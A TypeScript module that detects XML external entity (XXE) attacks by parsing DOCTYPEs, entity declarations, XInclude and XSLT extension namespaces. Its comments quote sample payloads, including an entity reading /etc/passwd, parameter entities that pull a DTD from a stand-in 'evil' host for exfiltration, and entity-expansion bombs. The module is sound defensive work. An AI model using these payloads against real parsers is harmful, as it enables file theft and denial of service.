/**
 * XML external entities (XXE) and entity expansion.
 *
 * An XML parser that processes a document type declaration will, for
 * `<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>`, read the file (or fetch the URL:
 * `http://`, `php://filter`, `expect://`, `jar:`, `netdoc:`, `gopher:`) and put it into the document; a
 * parameter entity (`<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;`) pulls in a whole attacker DTD for
 * out-of-band exfiltration; nested internal entities (`<!ENTITY b "&a;&a;&a;…">`, "billion laughs")
 * expand exponentially. XInclude (`<xi:include href="…"/>`) reads files without any DTD.
 *
 * Structure, not keywords: the DOCTYPE is parsed (name, external identifier, internal subset), each
 * `<!ENTITY …>` declaration is parsed (general or parameter, literal value or SYSTEM/PUBLIC
 * identifier), and the decision is made on what was declared:
 *
 * - `xxe.external-entity` (high): an entity with a SYSTEM or PUBLIC identifier, in a DOCTYPE or alone.
 * - `xxe.parameter-entity` (high): a parameter entity declaration or a `%name;` reference in a DTD.
 * - `xxe.entity-expansion` (high): an entity whose value references two or more other entities.
 * - `xxe.xinclude` (high): an XInclude element.
 * - `xxe.external-dtd`: a DOCTYPE that loads its DTD from `file:`, `ftp:`, `php:`, `jar:`, `netdoc:`… is
 *   high; from `http(s):` it is high unless the host publishes well-known DTDs (how real documents
 *   name their grammar: Cobertura reports, Hibernate and Spring configs, Apple plists: medium), or
 *   when the document uses an entity that only the external DTD can define
 *   (`<!DOCTYPE x SYSTEM "http://evil/x.dtd"><x>&exfil;</x>`); a relative DTD (`"note.dtd"`) is medium. W3C DTDs (XHTML, SVG, MathML) and `about:legacy-compat` pass.
 * - `xxe.internal-entity` (high): a self-contained DTD (no external identifier) that declares its own
 *   text entity: the probe for DTD processing; medium when the DOCTYPE references a published DTD
 *   (DocBook, Illustrator SVG exports declare entities that way) and low when the entity only names a
 *   character (`<!ENTITY nbsp "&#160;">`, common in XSLT).
 *
 * - `xxe.xslt-extension` (high): an XSLT stylesheet that binds a namespace to Java classes (Xalan's
 *   `http://xml.apache.org/xalan/java`, `xalan://`, Saxon's `java:`), to PHP functions
 *   (`http://php.net/xsl`) or embeds an `msxsl:script` block: the processor runs that code. Honest
 *   stylesheets use `exsl:` or `msxsl:node-set`, not these.
 *
 * Other encodings: a document whose XML declaration says `encoding="UTF-7"` is read again with its
 * UTF-7 decoded (`+ADw-!DOCTYPE` is `<!DOCTYPE` to libxml2 and .NET); a UTF-16 document that reached
 * us as bytes read one by one (`<\0!\0D\0O\0…`) is read again without its NULs.
 *
 * `<!DOCTYPE html>`, XHTML/SVG/MathML DOCTYPEs and plain XML without a DOCTYPE pass.
 *
 * Cost: a native `indexOf('<')` fast path; then `indexOf` for `<!` (from its `!`), `:include` and `xmlns:`. Each
 * declaration is parsed once, forward only, with quoted literals skipped in one step; the scan for
 * undeclared entity references runs at most once per value; each namespace binding is read once
 * (128 characters of URI at most). A UTF-7 or NUL-interleaved document costs one decoding copy and
 * one more scan of it. Linear overall. No RegExp.
 */
import type { Confidence, Detection } from '../types';
import { RANK, better } from './util';

interface State {
  best: Detection | undefined;
  /** Cached `lastUndeclaredRef` of the value. */
  lastRef?: number;
}

function report(st: State, rule: string, confidence: Confidence, reason: string): void {
  if (st.best === undefined || RANK[confidence] > RANK[st.best.confidence]) st.best = { rule, reason, confidence };
}

function isWs(c: number): boolean {
  return c === 32 || c === 9 || c === 10 || c === 13;
}
function isNameChar(c: number): boolean {
  return (
    (c >= 65 && c <= 90) || (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 95 || c === 58 || c === 45 || c === 46 || c >= 0x80
  );
}

/** `s` at `i` starts with ASCII `word` (given in upper case), case-insensitively. */
function startsWord(s: string, i: number, word: string): boolean {
  if (i + word.length > s.length) return false;
  for (let k = 0; k < word.length; k++) {
    const c = s.charCodeAt(i + k);
    const w = word.charCodeAt(k);
    if (c !== w && !(w >= 65 && w <= 90 && c === w + 32)) return false;
  }
  return true;
}

function skipWs(s: string, i: number): number {
  while (i < s.length && isWs(s.charCodeAt(i))) i++;
  return i;
}

function skipName(s: string, i: number): number {
  while (i < s.length && isNameChar(s.charCodeAt(i))) i++;
  return i;
}

/** A quoted literal at `i`: returns [contentStart, contentEnd, next] or undefined. */
function literal(s: string, i: number): [number, number, number] | undefined {
  const q = s.charCodeAt(i);
  if (q !== 34 && q !== 39) return undefined;
  const end = s.indexOf(q === 34 ? '"' : "'", i + 1);
  if (end === -1) return [i + 1, s.length, s.length];
  return [i + 1, end, end + 1];
}

/** `SYSTEM "uri"` or `PUBLIC "pubid" ["uri"]` at `i`. */
interface ExternalId {
  kind: 'SYSTEM' | 'PUBLIC';
  pubid: string;
  uri: string | undefined;
  next: number;
}

function externalId(s: string, i: number): ExternalId | undefined {
  let kind: 'SYSTEM' | 'PUBLIC';
  if (startsWord(s, i, 'SYSTEM')) kind = 'SYSTEM';
  else if (startsWord(s, i, 'PUBLIC')) kind = 'PUBLIC';
  else return undefined;
  let j = i + 6;
  if (j < s.length && !isWs(s.charCodeAt(j)) && s.charCodeAt(j) !== 34 && s.charCodeAt(j) !== 39) return undefined;
  j = skipWs(s, j);
  const first = literal(s, j);
  if (first === undefined) return { kind, pubid: '', uri: undefined, next: j };
  if (kind === 'SYSTEM') return { kind, pubid: '', uri: s.slice(first[0], Math.min(first[1], first[0] + 512)), next: first[2] };
  const pubid = s.slice(first[0], Math.min(first[1], first[0] + 256));
  j = skipWs(s, first[2]);
  const second = literal(s, j);
  if (second === undefined) return { kind, pubid, uri: undefined, next: first[2] };
  return { kind, pubid, uri: s.slice(second[0], Math.min(second[1], second[0] + 512)), next: second[2] };
}

/** The scheme of a URI (`file`, `http`, `php`, `jar`…), lower case, or '' for a relative reference. */
function schemeOf(uri: string): string {
  let i = 0;
  while (i < uri.length && isWs(uri.charCodeAt(i))) i++;
  const start = i;
  for (; i < uri.length && i - start < 16; i++) {
    const c = uri.charCodeAt(i) | 0x20;
    if (i > start && uri.charCodeAt(i) === 58) return uri.slice(start, i).toLowerCase();
    if (!((c >= 97 && c <= 122) || (i > start && ((c >= 48 && c <= 57) || c === 0x2b || c === 0x2d || c === 0x2e)))) return '';
  }
  return '';
}

/** A DTD published by the W3C (XHTML, SVG, MathML, SMIL): parsers ship these or never fetch them. */
function isW3cDtd(uri: string): boolean {
  const u = uri.trim().toLowerCase();
  return (
    u.startsWith('http://www.w3.org/') ||
    u.startsWith('https://www.w3.org/') ||
    u === 'about:legacy-compat' ||
    u.startsWith('http://www.w3c.org/')
  );
}

/**
 * Hosts whose DTDs real documents reference (Java EE and framework configs, Cobertura and JUnit
 * reports, Apple property lists, DocBook, OASIS): those stay medium. Suffix match on the host.
 */
const DTD_PUBLISHERS: readonly string[] = [
  'apache.org', 'sun.com', 'oracle.com', 'jcp.org', 'springframework.org', 'hibernate.org', 'jboss.org',
  'sourceforge.net', 'mybatis.org', 'ibatis.com', 'eclipse.org', 'netbeans.org', 'apple.com', 'microsoft.com',
  'docbook.org', 'oasis-open.org', 'getahead.org', 'directwebremoting.org', 'opensymphony.com', 'tuckey.org',
  'puppycrawl.com', 'checkstyle.org', 'google.com', 'android.com', 'mozilla.org', 'gnome.org', 'freedesktop.org',
  'kde.org', 'ietf.org', 'iso.org', 'w3c.org', 'w3.org', 'xml.org', 'openoffice.org', 'apache.com',
];

function isPublishedDtdHost(uri: string): boolean {
  const u = uri.trim().toLowerCase();
  const a = u.indexOf('://');
  if (a === -1) return true; // relative (`note.dtd`): no fetch from elsewhere
  let e = a + 3;
  while (e < u.length && e - a < 260 && u.charCodeAt(e) !== 47 && u.charCodeAt(e) !== 58 && u.charCodeAt(e) !== 63 && u.charCodeAt(e) !== 35) e++;
  const at = u.lastIndexOf('@', e);
  const host = u.slice(at > a ? at + 1 : a + 3, e);
  for (const p of DTD_PUBLISHERS) if (host === p || host.endsWith('.' + p)) return true;
  return false;
}

/**
 * Parses one `<!ENTITY …>` declaration starting at `i` (pointing at `<!`). Reports what it declares.
 * Returns the index after the declaration.
 */
function entityDecl(s: string, i: number, st: State, dtd: DoctypeInfo | undefined): number {
  let j = skipWs(s, i + 8);
  let parameter = false;
  if (s.charCodeAt(j) === 37 /* % */) {
    parameter = true;
    j = skipWs(s, j + 1);
  }
  const nameStart = j;
  j = skipName(s, j);
  if (j === nameStart) return i + 8;
  j = skipWs(s, j);
  const ext = externalId(s, j);
  if (ext !== undefined) {
    const scheme = ext.uri === undefined ? '' : schemeOf(ext.uri);
    const what = scheme === '' ? 'a local path' : `a "${scheme}:" URI`;
    if (parameter) report(st, 'xxe.parameter-entity', 'high', `External parameter entity declared with ${ext.kind} pointing to ${what}.`);
    else report(st, 'xxe.external-entity', 'high', `External entity declared with ${ext.kind} pointing to ${what}.`);
    return ext.next;
  }
  const lit = literal(s, j);
  if (lit === undefined) {
    if (parameter) report(st, 'xxe.parameter-entity', 'high', 'Parameter entity declaration in a DTD.');
    return j;
  }
  if (parameter) {
    report(st, 'xxe.parameter-entity', 'high', 'Parameter entity declaration in a DTD.');
    return lit[2];
  }
  // Internal general entity: count references to other entities in its value, in one pass.
  let refs = 0;
  let charRefsOnly = true;
  const end = lit[1];
  for (let k = lit[0]; k < end; k++) {
    const c = s.charCodeAt(k);
    if (c === 38 /* & */ || c === 37 /* % */) {
      if (s.charCodeAt(k + 1) === 35 /* # */) {
        // Character reference `&#160;`: names a character, expands nothing.
        let e = k + 2;
        while (e < end && e - k < 12 && s.charCodeAt(e) !== 59) e++;
        k = e;
        continue;
      }
      const e = skipName(s, k + 1);
      if (e > k + 1 && e < end + 1 && s.charCodeAt(e) === 59 /* ; */) {
        if (c === 37) report(st, 'xxe.parameter-entity', 'high', 'Parameter entity reference inside an entity value.');
        const len = e - k - 1;
        const predefined =
          len <= 4 && (s.startsWith('lt;', k + 1) || s.startsWith('gt;', k + 1) || s.startsWith('amp;', k + 1) || s.startsWith('apos;', k + 1) || s.startsWith('quot;', k + 1));
        if (c === 38 && !predefined) refs++;
        charRefsOnly = false;
        k = e;
        continue;
      }
    }
    if (!isWs(c)) charRefsOnly = false;
  }
  if (refs >= 2) {
    report(st, 'xxe.entity-expansion', 'high', 'Entity whose value expands other entities repeatedly (entity expansion, "billion laughs").');
  } else if (charRefsOnly) {
    report(st, 'xxe.internal-entity', 'low', 'DTD declares an entity that names a character.');
  } else if (dtd === undefined || dtd.external) {
    report(st, 'xxe.internal-entity', 'medium', 'DTD declares an internal text entity.');
  } else {
    report(st, 'xxe.internal-entity', 'high', 'Self-contained DTD that declares its own text entity, a probe for entity processing.');
  }
  return lit[2];
}

/**
 * Index of the last general entity reference `&name;` that is neither predefined (`lt gt amp apos
 * quot`) nor a character reference, or -1. One linear pass, computed once per value.
 */
function lastUndeclaredRef(s: string): number {
  let last = -1;
  for (let k = s.indexOf('&'); k !== -1; k = s.indexOf('&', k + 1)) {
    const e = skipName(s, k + 1);
    if (e === k + 1 || s.charCodeAt(e) !== 59) continue;
    const len = e - k - 1;
    if (len <= 4) {
      const name = s.slice(k + 1, e);
      if (name === 'lt' || name === 'gt' || name === 'amp' || name === 'apos' || name === 'quot') continue;
    }
    last = k;
  }
  return last;
}

function usesUndeclaredEntity(s: string, from: number, st: State): boolean {
  if (st.lastRef === undefined) st.lastRef = lastUndeclaredRef(s);
  return st.lastRef >= from;
}

interface DoctypeInfo {
  /** The DOCTYPE has an external identifier (references a published DTD). */
  external: boolean;
}

/** Parses `<!DOCTYPE …>` at `i`; returns the index after it. */
function doctype(s: string, i: number, st: State): number {
  let j = i + 9;
  if (j < s.length && !isWs(s.charCodeAt(j))) return j;
  j = skipWs(s, j);
  const nameStart = j;
  j = skipName(s, j);
  const name = s.slice(nameStart, Math.min(j, nameStart + 32)).toLowerCase();
  j = skipWs(s, j);
  const info: DoctypeInfo = { external: false };
  const ext = externalId(s, j);
  if (ext !== undefined) {
    info.external = true;
    j = skipWs(s, ext.next);
    const uri = ext.uri;
    if (uri !== undefined && !isW3cDtd(uri)) {
      const scheme = schemeOf(uri);
      const dangerous = scheme !== '' && scheme !== 'http' && scheme !== 'https';
      if (dangerous) {
        report(st, 'xxe.external-dtd', 'high', `DOCTYPE loads an external DTD from a "${scheme}:" URI.`);
      } else if (name !== 'html') {
        // An http(s) DTD is how real documents declare their grammar (Cobertura reports, Hibernate,
        // Spring configs). It is the out-of-band XXE vector when the document then uses an entity
        // only that DTD can define: `<!DOCTYPE x SYSTEM "http://evil/x.dtd"><x>&exfil;</x>`.
        if (usesUndeclaredEntity(s, j, st)) {
          report(st, 'xxe.external-dtd', 'high', 'DOCTYPE loads an external DTD and the document uses an entity only that DTD defines.');
        } else if (!isPublishedDtdHost(uri)) {
          // Blind out-of-band XXE needs nothing in the document: the fetched DTD declares and uses its
          // own parameter entities. A DTD from a host that publishes no schema grammar is that probe.
          report(st, 'xxe.external-dtd', 'high', 'DOCTYPE loads an external DTD from a host that publishes no well-known DTDs (out-of-band XXE).');
        } else {
          report(st, 'xxe.external-dtd', 'medium', `DOCTYPE references an external DTD (${ext.kind}).`);
        }
      }
    }
  }
  if (s.charCodeAt(j) !== 91 /* [ */) return j;
  // Internal subset: markup declarations, comments, PIs and parameter-entity references until `]`.
  j++;
  while (j < s.length) {
    const c = s.charCodeAt(j);
    if (c === 93 /* ] */) return j + 1;
    if (c === 60 /* < */) {
      if (s.startsWith('<!--', j)) {
        const e = s.indexOf('-->', j + 4);
        j = e === -1 ? s.length : e + 3;
        continue;
      }
      if (startsWord(s, j, '<!ENTITY')) {
        j = entityDecl(s, j, st, info);
        continue;
      }
      // Other declarations (ELEMENT, ATTLIST, NOTATION) and PIs: skip to `>`, over quoted literals.
      j++;
      while (j < s.length) {
        const d = s.charCodeAt(j);
        if (d === 62 /* > */) break;
        if (d === 34 || d === 39) {
          const lit = literal(s, j);
          j = lit === undefined ? j + 1 : lit[2];
          continue;
        }
        if (d === 60 || d === 93) break;
        j++;
      }
      if (s.charCodeAt(j) === 62) j++;
      continue;
    }
    if (c === 37 /* % */) {
      const e = skipName(s, j + 1);
      if (e > j + 1 && s.charCodeAt(e) === 59) {
        report(st, 'xxe.parameter-entity', 'high', 'Parameter entity reference in the DTD, which pulls in declarations.');
      }
      j = e > j + 1 ? e : j + 1;
      continue;
    }
    j++;
  }
  return j;
}

/** An XInclude element: `<xi:include`, or any prefix bound to the XInclude namespace. */
function xinclude(s: string, st: State): void {
  let from = 0;
  // Whether the XInclude namespace is declared anywhere: computed once (an indexOf per candidate
  // would make many `<p:include` candidates quadratic).
  let ns: boolean | undefined;
  for (;;) {
    const k = s.indexOf('include', from);
    if (k === -1) return;
    from = k + 7;
    if (s.charCodeAt(k - 1) !== 58 /* : */) continue;
    // Walk back over the prefix to the `<`.
    let p = k - 2;
    while (p >= 0 && k - p < 34 && isNameChar(s.charCodeAt(p)) && s.charCodeAt(p) !== 58) p--;
    if (p < 0 || s.charCodeAt(p) !== 60 || p === k - 2) continue;
    const after = s.charCodeAt(k + 7);
    if (!(isWs(after) || after === 47 || after === 62 || Number.isNaN(after))) continue;
    const prefix = s.slice(p + 1, k - 1);
    if (prefix !== 'xi' && ns === undefined) ns = s.indexOf('2001/XInclude') !== -1;
    if (prefix === 'xi' || ns === true) {
      report(st, 'xxe.xinclude', 'high', 'XInclude element, which makes the XML parser read another file or URL.');
      return;
    }
  }
}

/**
 * Detects XML external entities, parameter entities, entity expansion and XInclude. Does not catch
 * its own errors: a bug must reach the engine's wrapper (logged once, fails open), not read as "clean".
 */
export function detectXxe(value: string): Detection | undefined {
  // Fast path: every construct here starts with `<`.
  const lt = value.indexOf('<');
  if (lt === -1) return undefined;
  const found = scan(value, lt);
  if (found?.confidence === 'high') return found;
  // Another reading of the same bytes, when the document says or shows it is in another encoding.
  const other = utf7Document(value, lt) ?? utf16Bytes(value, lt);
  if (other === undefined) return found;
  const o = other.indexOf('<');
  const again = o === -1 ? undefined : scan(other, o);
  return better(found, again);
}

/**
 * The document after its XML declaration, UTF-7 decoded, when the declaration (at `lt`, the first
 * `<`) names UTF-7; else undefined. Only the declaration's first 128 characters are searched.
 */
function utf7Document(s: string, lt: number): string | undefined {
  if (!s.startsWith('<?xml', lt)) return undefined;
  const stop = Math.min(s.length, lt + 128);
  let close = -1;
  for (let i = lt + 5; i + 1 < stop; i++) {
    if (s.charCodeAt(i) === 63 && s.charCodeAt(i + 1) === 62) {
      close = i;
      break;
    }
  }
  if (close === -1) return undefined;
  const decl = s.slice(lt, close).toLowerCase();
  if (decl.indexOf('utf-7') === -1 && decl.indexOf('utf7') === -1) return undefined;
  // Without a `+`, UTF-7 text is its own ASCII: nothing new to read.
  if (s.indexOf('+', close + 2) === -1) return undefined;
  return decodeUtf7(s, close + 2);
}

const B64 = new Int8Array(128).fill(-1);
(() => {
  for (let i = 0; i < 64; i++) B64['ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'.charCodeAt(i)] = i;
})();

/**
 * RFC 2152: `+` base64 of UTF-16 units, ended by `-` (dropped) or any other character; `+-` is `+`.
 * Written into one code-unit buffer (the output is never longer than the input) that one native
 * decode turns into a string.
 */
function decodeUtf7(s: string, from: number): string {
  const n = s.length;
  const buf = new Uint16Array(n - from);
  let m = 0;
  for (let i = from; i < n; i++) {
    const c = s.charCodeAt(i);
    if (c !== 43 /* + */) {
      buf[m++] = c;
      continue;
    }
    let j = i + 1;
    if (s.charCodeAt(j) === 45 /* - */) {
      buf[m++] = 43;
      i = j;
      continue;
    }
    let bits = 0;
    let acc = 0;
    for (; j < n; j++) {
      const d = s.charCodeAt(j);
      const v = d < 128 ? B64[d]! : -1;
      if (v < 0) break;
      acc = ((acc << 6) | v) & 0xffffff;
      bits += 6;
      if (bits >= 16) {
        bits -= 16;
        buf[m++] = (acc >> bits) & 0xffff;
      }
    }
    if (s.charCodeAt(j) === 45) j++;
    i = j - 1;
  }
  return UTF16LE.decode(buf.subarray(0, m));
}

// Created on first use: only UTF-7 XML needs it (decodeUtf7), and creating it cost ~0.2 ms of every
// cold start.
let utf16le: InstanceType<typeof TextDecoder> | undefined;
const UTF16LE = { decode: (b: NodeJS.ArrayBufferView): string => (utf16le ??= new TextDecoder('utf-16le')).decode(b) };

/**
 * The value without its NULs, when its first `<` has a NUL beside it (UTF-16 read byte by byte:
 * `<\0!\0D\0…` or `\0<\0!…`); else undefined.
 */
function utf16Bytes(s: string, lt: number): string | undefined {
  if (s.charCodeAt(lt + 1) !== 0 && (lt === 0 || s.charCodeAt(lt - 1) !== 0)) return undefined;
  return s.split('\u0000').join('');
}

/**
 * The first `<!` at or after `from`, or -1: `s.indexOf('<!', from)`. Searched from its `!`: on a run
 * of `<` (or of `<a` tags) a native search for `<!` stops at every `<` and costs 5.7 µs/KB on 1 MB of
 * `<`; `!` is absent there, so one pass. A `!` without its `<` falls back to the `<!` search, so a
 * run of `!` is one pass too; only text dense in both costs one more native call per `!`.
 */
function declOpener(s: string, from: number): number {
  const p = s.indexOf('!', from + 1);
  if (p === -1) return -1;
  // No `!` in [from + 1, p), so no `<!` starts in [from, p - 1).
  if (s.charCodeAt(p - 1) === 60 /* < */) return p - 1;
  return s.indexOf('<!', p);
}

/**
 * `s.indexOf('xmlns:', from) !== -1`, searched from the first `:` at or after `from + 5`: a run of
 * `x` (`</a>x`, `<a x="`) stops a native `xmlns:` search at every `x` (1.1 µs/KB); `:` is rarer in
 * markup that is not namespaced, and once one is found the `xmlns:` search resumes where a match
 * could still end at or after it. At most two native passes.
 */
function hasXmlns(s: string, from: number): boolean {
  const p = s.indexOf(':', from + 5);
  return p !== -1 && s.indexOf('xmlns:', p - 5) !== -1;
}

function scan(s: string, from: number): Detection | undefined {
  const st: State = { best: undefined };
  let i = declOpener(s, from);
  while (i !== -1) {
    let next = i + 2;
    if (startsWord(s, i, '<!DOCTYPE')) next = doctype(s, i, st);
    else if (startsWord(s, i, '<!ENTITY')) next = entityDecl(s, i, st, undefined);
    if (st.best?.confidence === 'high') return st.best;
    i = declOpener(s, Math.max(next, i + 2));
  }
  if (s.indexOf(':include', from) !== -1) xinclude(s, st);
  if (st.best?.confidence !== 'high' && hasXmlns(s, from)) xsltExtension(s, st);
  return st.best;
}

/** Namespace URIs that bind an XSLT prefix to host-language code (lower case, matched as prefixes). */
const CODE_NAMESPACES: readonly string[] = [
  'http://xml.apache.org/xalan/java',
  'http://xml.apache.org/xslt/java',
  'http://xml.apache.org/xalan/xsltc/java',
  'xalan://',
  'java:',
  'http://saxon.sf.net/java-type',
  'http://php.net/xsl',
];
const MSXSL = 'urn:schemas-microsoft-com:xslt';

/**
 * Every `xmlns:prefix="uri"` binding, read once: a code namespace is `xxe.xslt-extension`; the
 * Microsoft XSLT namespace counts only with a `<prefix:script` element (its `node-set` function is
 * ordinary); only the first such binding is followed (one more indexOf, not one per binding).
 */
function xsltExtension(s: string, st: State): void {
  let msxsl = false;
  for (let k = s.indexOf('xmlns:'); k !== -1; k = s.indexOf('xmlns:', k + 6)) {
    const p = k + 6;
    const pe = skipName(s, p);
    if (pe === p || pe - p > 64) continue;
    let j = skipWs(s, pe);
    if (s.charCodeAt(j) !== 61 /* = */) continue;
    j = skipWs(s, j + 1);
    const q = s.charCodeAt(j);
    if (q !== 34 && q !== 39) continue;
    const uri = s.slice(j + 1, Math.min(s.length, j + 129)).trimStart().toLowerCase();
    for (const ns of CODE_NAMESPACES) {
      if (uri.startsWith(ns)) {
        report(st, 'xxe.xslt-extension', 'high', 'XSLT namespace bound to Java or PHP code, which the XSLT processor calls.');
        return;
      }
    }
    if (!msxsl && uri.startsWith(MSXSL)) {
      msxsl = true;
      if (s.indexOf('<' + s.slice(p, pe) + ':script') !== -1) {
        report(st, 'xxe.xslt-extension', 'high', 'XSLT stylesheet with an msxsl:script block, which the processor compiles and runs.');
        return;
      }
    }
  }
}
